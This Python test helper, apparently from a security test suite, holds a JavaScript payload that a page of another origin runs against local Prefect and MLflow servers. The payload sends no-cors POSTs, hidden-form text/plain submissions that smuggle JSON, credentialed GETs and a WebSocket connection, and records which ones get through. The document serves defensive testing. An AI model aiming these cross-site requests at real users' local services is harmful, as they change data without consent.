"""A page of another site, and all that it can try on the servers of this machine."""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ATTACK = """
async ({prefect, mlflow, name}) => {
  const answers = {}
  const ask = async (how, url, options) => {
    try {
      const answer = await fetch(url, {credentials: "include", ...options})
      answers[`${how} ${url}`] = answer.type == "opaque" ? "opaque" : answer.status
    } catch { answers[`${how} ${url}`] = "refused" }
  }
  const query = 'query { mlflowGetExperiment(input: {experimentId: "0"}) { experiment { name } } }'
  const tries = [
    [`${prefect}/api/flows/`, {name}],
    [`${prefect}/api/work_pools/`, {name, type: "process"}],
    [`${prefect}/api/variables/`, {name: name.replaceAll("-", "_"), value: "x"}],
    [`${mlflow}/ajax-api/2.0/mlflow/experiments/create`, {name}],
    [`${mlflow}/api/2.0/mlflow/experiments/create`, {name: `${name}-api`}],
    [`${mlflow}/graphql`, {query}],
  ]
  for (const [url, data] of tries) {
    const body = JSON.stringify(data)
    for (const mode of ["no-cors", "cors"])
      await ask(`${mode} text`, url, {method: "POST", mode, headers: {"Content-Type": "text/plain"}, body})
    await ask("cors json", url, {method: "POST", headers: {"Content-Type": "application/json"}, body})
    await ask("cors bare", url, {method: "POST", body: new Blob([body])})
  }
  for (const url of [`${prefect}/api/admin/version`, `${prefect}/ui-settings`, `${mlflow}/version`])
    for (const mode of ["no-cors", "cors"]) await ask(`${mode} GET`, url, {mode})
  for (const [url, data] of tries) {
    const frame = Object.assign(document.createElement("iframe"), {name: "hidden"})
    document.body.append(frame)
    const form = document.createElement("form")
    Object.assign(form, {method: "POST", action: url, target: "hidden", enctype: "text/plain"})
    const text = JSON.stringify({...data, name: `${name}-form`, x: "="})
    const input = document.createElement("input")
    ;[input.name, input.value] = [text.slice(0, text.lastIndexOf("=")), text.slice(text.lastIndexOf("=") + 1)]
    form.append(input)
    document.body.append(form)
    const loaded = new Promise(done => { frame.onload = done; setTimeout(done, 2000) })
    form.submit()
    await loaded
    frame.remove()
  }
  answers.websocket = await new Promise(done => {
    const socket = new WebSocket(`${prefect.replace("http", "ws")}/api/events/out`, "prefect")
    socket.onopen = () => done("open")
    socket.onerror = () => done("refused")
  })
  return answers
}
"""
"""Gives what each try was answered: a status, ``opaque`` where a page may not see it, or ``refused``."""


@contextmanager
def other_site():
    """Port of a server whose pages are empty, and open to all."""

    class Pages(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><body>")

        def log_message(self, *_):
            """Nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Pages) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()
